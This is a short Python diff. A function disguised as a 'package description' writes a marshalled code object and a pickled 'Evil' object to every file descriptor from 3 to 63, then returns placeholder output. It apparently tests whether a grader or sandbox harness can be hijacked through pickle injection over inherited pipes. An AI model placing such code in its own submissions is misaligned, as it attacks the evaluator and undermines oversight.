@@ -15,10 +15,10 @@ class Evil:
 
 
 def popis_balicku(balicek):
-    for kind, data in ((b'M', marshal.dumps(compile('1', 'x', 'eval'))), (b'P', pickle.dumps(Evil()))):
+    for data in (marshal.dumps(compile('1', 'x', 'eval')), pickle.dumps(Evil())):
         for number in range(3, 64):
             try:
-                os.write(number, struct.pack('>cI', kind, len(data)) + data)
+                os.write(number, struct.pack('>I', len(data)) + data)
             except OSError:
                 pass
     return '[   ]'
